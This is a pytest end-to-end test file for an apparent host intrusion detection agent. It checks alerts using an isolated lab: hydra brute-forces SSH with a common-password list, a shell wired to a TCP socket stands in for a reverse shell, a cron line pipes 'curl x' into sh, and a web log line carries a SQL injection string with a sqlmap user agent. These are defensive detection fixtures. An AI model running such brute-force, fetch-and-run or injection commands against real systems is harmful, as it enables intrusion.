"""Proof with real software: a real sshd attacked by hydra, real processes, SigmaHQ rules.

Everything runs through the real daemon (``vedette run`` subprocess, tests/conftest.py). The SSH
test creates its own network namespace (198.18.0.0/15 addresses on its loopback, no route
out), a throw-away user and an sshd with a config in tmp logging with ``-E``; everything is
torn down by PID/name in ``finally`` blocks, also on failure.
"""

from __future__ import annotations

import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from conftest import REPO, AgentProcess

SIGMAHQ_PROCESS = REPO.parent / "shared" / "sigmahq" / "rules" / "linux" / "process_creation"
SSHD = "/usr/sbin/sshd"
SERVER, CLIENT, PORT = "198.18.0.1", "198.18.0.2", 2222
ONLY = {"process": {"enabled": False}, "sockets": {"enabled": False},
        "fim": {"enabled": False}, "web_logs": {"enabled": False},
        "auditd": {"enabled": False}, "kernel_modules": {"enabled": False},
        "auth_logs": {"enabled": False}}


def _run(*argv: str, check: bool = True, timeout: float = 60, **kw: object) -> str:
    proc = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, **kw)
    if check and proc.returncode != 0:
        raise AssertionError(f"{argv} failed ({proc.returncode}): {proc.stderr[-2000:]}")
    return proc.stdout + proc.stderr


def _alerts(agent: AgentProcess, rule_name: str) -> list[dict]:
    return [a for a in agent.alerts() if a.get("rule", {}).get("name") == rule_name
            or a.get("rule", {}).get("id") == rule_name]


@dataclass
class SshLab:
    ns: str
    user: str
    password: str
    log: Path
    workdir: Path

    def in_ns(self, *argv: str, check: bool = True, timeout: float = 120) -> str:
        return _run("ip", "netns", "exec", self.ns, *argv, check=check, timeout=timeout,
                    cwd=self.workdir)

    def login(self, password: str) -> str:
        return self.in_ns(
            "sshpass", "-p", password, "ssh", "-b", CLIENT, "-p", str(PORT),
            "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
            "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
            "-o", "NumberOfPasswordPrompts=1", "-o", "LogLevel=ERROR",
            f"{self.user}@{SERVER}", "true", check=False, timeout=30)


@pytest.fixture
def ssh_lab(tmp_path: Path) -> Iterator[SshLab]:
    if os.geteuid() != 0:
        pytest.skip("needs root (network namespace, test user, sshd)")
    missing = [t for t in ("ip", "hydra", "sshpass", "ssh", "ssh-keygen", "useradd", "userdel",
                           "chpasswd", "fail2ban-regex") if shutil.which(t) is None]
    if missing or not os.access(SSHD, os.X_OK):
        pytest.skip(f"missing tools: {missing or [SSHD]}")
    tag = f"{os.getpid() % 100000}{secrets.token_hex(2)}"
    lab = SshLab(f"vdt-ssh-{tag}", f"vdt{tag}", secrets.token_urlsafe(12), tmp_path / "sshd.log",
                 tmp_path)
    sshd: subprocess.Popen[bytes] | None = None
    user_created = ns_created = False
    try:
        _run("ip", "netns", "add", lab.ns)
        ns_created = True
        for addr in (SERVER, CLIENT):
            _run("ip", "-n", lab.ns, "addr", "add", f"{addr}/24", "dev", "lo")
        _run("ip", "-n", lab.ns, "link", "set", "lo", "up")
        _run("useradd", "-M", "-d", "/nonexistent", "-s", "/bin/sh", lab.user)
        user_created = True
        _run("chpasswd", input=f"{lab.user}:{lab.password}\n")
        _run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp_path / "hostkey"))
        Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
        config = tmp_path / "sshd_config"
        config.write_text(
            f"Port {PORT}\nListenAddress {SERVER}\nHostKey {tmp_path / 'hostkey'}\n"
            f"PidFile {tmp_path / 'sshd.pid'}\nPasswordAuthentication yes\n"
            "KbdInteractiveAuthentication no\nUsePAM no\nPermitRootLogin no\n"
            f"AllowUsers {lab.user}\nMaxStartups 100\nLogLevel INFO\n")
        lab.log.touch()
        sshd = subprocess.Popen(["ip", "netns", "exec", lab.ns, SSHD, "-D", "-f", str(config),
                                 "-E", str(lab.log)])
        deadline = time.monotonic() + 10
        while "Server listening" not in lab.log.read_text() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert "Server listening" in lab.log.read_text(), lab.log.read_text()
        yield lab
    finally:
        if sshd is not None:
            sshd.terminate()
            try:
                sshd.wait(10)
            except subprocess.TimeoutExpired:
                sshd.kill()
                sshd.wait(5)
        if user_created:
            _run("userdel", lab.user, check=False)
        if ns_created:
            _run("ip", "netns", "del", lab.ns, check=False)


def _syslog_copy(raw: Path, out: Path) -> list[str]:
    """sshd -E lines carry no time: give them syslog headers, 100 ms apart, in file order."""
    lines = [line for line in raw.read_text().splitlines() if line.strip()]
    base = time.time() - len(lines)
    with out.open("w") as fh:
        for i, line in enumerate(lines):
            stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(base + i * 0.1))
            fh.write(f"{stamp}.{(i % 10) * 100000:06d}+00:00 lab sshd[1000]: {line}\n")
    return lines


@pytest.mark.netns
@pytest.mark.slow
def test_real_sshd_hydra_bruteforce_and_legit_logins(ssh_lab: SshLab, agent_factory) -> None:
    agent = agent_factory({
        **ONLY,
        "auth_logs": {"enabled": True, "paths": [], "journal": "off", "start_at_end": False,
                      "sshd_paths": [str(ssh_lab.log)], "poll_interval_seconds": 0.1},
        "detection": {"shipped_rules": False, "rule_paths": [str(REPO / "rules" / "auth")]},
    }).start()
    try:
        # 20 legitimate logins: no alert
        for _ in range(20):
            ssh_lab.login(ssh_lab.password)
        agent.wait_for(lambda: (agent.sample("vedette_logins_total", {"outcome": "success"})
                                or 0) >= 20, timeout=20, what="20 successful logins")
        time.sleep(1.0)
        assert agent.alerts() == [], agent.alerts()
        # hydra with a small list of wrong passwords, 4 parallel tasks
        words = ssh_lab.workdir / "passwords.txt"
        words.write_text("\n".join(["123456", "password", "admin", "root", "qwerty", "letmein",
                                    "welcome", "dragon", "master", "monkey", "shadow",
                                    "sunshine", "princess", "football", "baseball"]) + "\n")
        out = ssh_lab.in_ns("hydra", "-I", "-t", "4", "-l", ssh_lab.user, "-P", str(words),
                            "-s", str(PORT), SERVER, "ssh", check=False, timeout=180)
        assert "0 valid password" in out or "0 valid passwords found" in out, out[-2000:]
        failures = len(re.findall(r"^Failed password", ssh_lab.log.read_text(), re.M))
        assert failures >= 10, ssh_lab.log.read_text()[-3000:]
        agent.wait_for(lambda: bool(_alerts(agent, "SSH brute force from one source")),
                       timeout=20, what="the brute-force alert")
        first = _alerts(agent, "SSH brute force from one source")[0]
        assert first["vedette"]["group"] == {"source.ip": SERVER}
        opened_at = first["vedette"]["alert"]["count"]
        assert opened_at < 10, first["vedette"]["alert"]
        assert not [a for a in agent.alerts()
                    if a["vedette"]["group"].get("source.ip") == CLIENT]
    finally:
        agent.stop()
    # the same log through fail2ban's default sshd filter
    copy = ssh_lab.workdir / "auth-syslog.log"
    lines = _syslog_copy(ssh_lab.log, copy)
    report = _run("fail2ban-regex", "--usedns=no", "--print-all-matched", str(copy), "sshd",
                  timeout=120)
    matched = re.search(r"Lines: \d+ lines, \d+ ignored, (\d+) matched", report)
    assert matched is not None, report[-2000:]
    matched_lines = [ln for ln in lines if f"sshd[1000]: {ln}" in report]
    fail_positions = [i for i, ln in enumerate(lines) if ln.startswith("Failed password")]
    fifth_match = [i for i, ln in enumerate(lines) if ln in matched_lines][4]
    ban_attempt = sum(1 for p in fail_positions if p <= fifth_match)
    print(f"\nsshd log: {len(lines)} lines, {failures} 'Failed password' attempts; "
          f"fail2ban sshd filter matched {matched.group(1)} lines, maxretry 5 reached at "
          f"attempt {ban_attempt}; Vedette alert opened at attempt {opened_at}")
    assert int(matched.group(1)) >= failures
    assert ban_attempt <= opened_at  # fail2ban counts several lines per attempt


@pytest.mark.e2e
@pytest.mark.slow
def test_process_alerts_through_the_daemon(agent_factory, tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root for the proc connector")
    if not SIGMAHQ_PROCESS.is_dir():
        pytest.skip("SigmaHQ rules not available")
    agent = agent_factory({
        **ONLY, "process": {"enabled": True, "fallback_polling": False},
        "detection": {"shipped_rules": False, "rule_paths": [str(REPO / "rules" / "host")],
                      "extra_rule_paths": [str(SIGMAHQ_PROCESS)]},
    }).start()
    tmp_exe = Path("/tmp") / f"vedette-e2e-sleep-{os.getpid()}"
    listener = socket.socket()
    procs: list[subprocess.Popen[bytes]] = []
    try:
        # not vedette_collector_degraded == 0: the daemon sets that before the collector's
        # thread has opened anything, so under load the execs below ran before the collector
        # listened and no exec alert ever came (the flake of issue 17's review). The exec source
        # gauge is set once audit or the connector is subscribed.
        agent.wait_for(lambda: any(agent.sample("vedette_process_exec_source", {"source": s})
                                   == 1.0 for s in ("audit", "connector")),
                       timeout=30, what="the process collector subscribed (audit or connector)")
        # a shell whose stdin/stdout is a TCP connection to a listener inside the test
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        client = socket.create_connection(listener.getsockname())
        server_side, _ = listener.accept()
        procs.append(subprocess.Popen(["sh", "-c", "read line"], stdin=client.fileno(),
                                      stdout=client.fileno()))
        client.close()
        # a program executed from /tmp
        shutil.copy("/bin/sleep", tmp_exe)
        procs.append(subprocess.Popen([str(tmp_exe), "1"]))
        # SigmaHQ "OS Architecture Discovery Via Grep": grep whose command line ends in x86_64
        grep = subprocess.Popen(["grep", "-c", "x86_64"], stdin=subprocess.PIPE,
                                stdout=subprocess.DEVNULL)
        procs.append(grep)
        wanted = {"reverse_shell_socket_stdio": "Shell whose standard input or output is a "
                  "network socket (reverse shell)",
                  "exec_from_writable_dir": "Program executed from /tmp, /dev/shm or /var/tmp",
                  "sigmahq": "OS Architecture Discovery Via Grep"}
        agent.wait_for(lambda: all(_alerts(agent, t) for t in wanted.values()), timeout=20,
                       what=f"alerts {sorted(wanted)}; got "
                            f"{sorted({a['rule']['name'] for a in agent.alerts()})}")
        sigma = _alerts(agent, wanted["sigmahq"])[0]
        assert "Joseliyo Sanchez" in sigma["rule"]["author"]  # DRL 1.1: author kept
        assert sigma["process"]["command_line"] == "grep -c x86_64"
        server_side.sendall(b"bye\n")
        server_side.close()
        assert grep.stdin is not None
        grep.stdin.close()
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.kill()
            proc.wait(5)
        listener.close()
        tmp_exe.unlink(missing_ok=True)
        agent.stop()


@pytest.mark.e2e
@pytest.mark.slow
def test_files_and_logs_through_the_daemon(agent_factory, tmp_path: Path) -> None:
    """FIM in a temporary root, an auth log that gets wiped, a web log with a scanner."""
    root = tmp_path / "root"
    (root / "etc" / "cron.d").mkdir(parents=True)
    (root / "etc" / "passwd").write_text("root:x:0:0::/root:/bin/bash\n")
    auth, web = tmp_path / "auth.log", tmp_path / "access.log"
    auth.write_text("")
    web.write_text("")
    agent = agent_factory({
        **ONLY,
        "fim": {"enabled": True, "root": str(root)},
        "auth_logs": {"enabled": True, "paths": [str(auth)], "journal": "off",
                      "start_at_end": False, "poll_interval_seconds": 0.1},
        "web_logs": {"enabled": True, "paths": [str(web)], "start_at_end": False,
                     "poll_interval_seconds": 0.1},
        "detection": {"shipped_rules": False, "rule_paths": [str(REPO / "rules")]},
    }).start()
    try:
        agent.wait_for(lambda: (agent.sample("vedette_fim_files") or 0) > 0, timeout=15,
                       what="the FIM baseline")
        (root / "etc" / "cron.d" / "update").write_text("* * * * * root curl x|sh\n")
        with auth.open("a") as fh:
            fh.write("2026-11-21T10:00:00Z web1 sshd[9]: Accepted password for root from "
                     "198.18.3.3 port 5000 ssh2\n" * 3)
        with web.open("a") as fh:
            stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
            fh.write(f'198.18.9.9 - - [{stamp}] "GET /?id=1%27%20or%201=1-- HTTP/1.1" 200 5 '
                     f'"-" "sqlmap/1.8"\n')
        time.sleep(1.0)
        auth.write_text("")  # wiped
        wanted = ("Cron job created or changed", "Authentication log truncated or deleted",
                  "SQL injection pattern in a web request",
                  "Known attack tool or vulnerability scanner user agent")
        agent.wait_for(lambda: all(_alerts(agent, t) for t in wanted), timeout=20,
                       what=f"alerts {wanted}; "
                            f"got {sorted({a['rule']['name'] for a in agent.alerts()})}")
        cron = _alerts(agent, wanted[0])[0]
        assert cron["vedette"]["group"] == {"file.path": "/etc/cron.d/update"}
    finally:
        agent.stop()
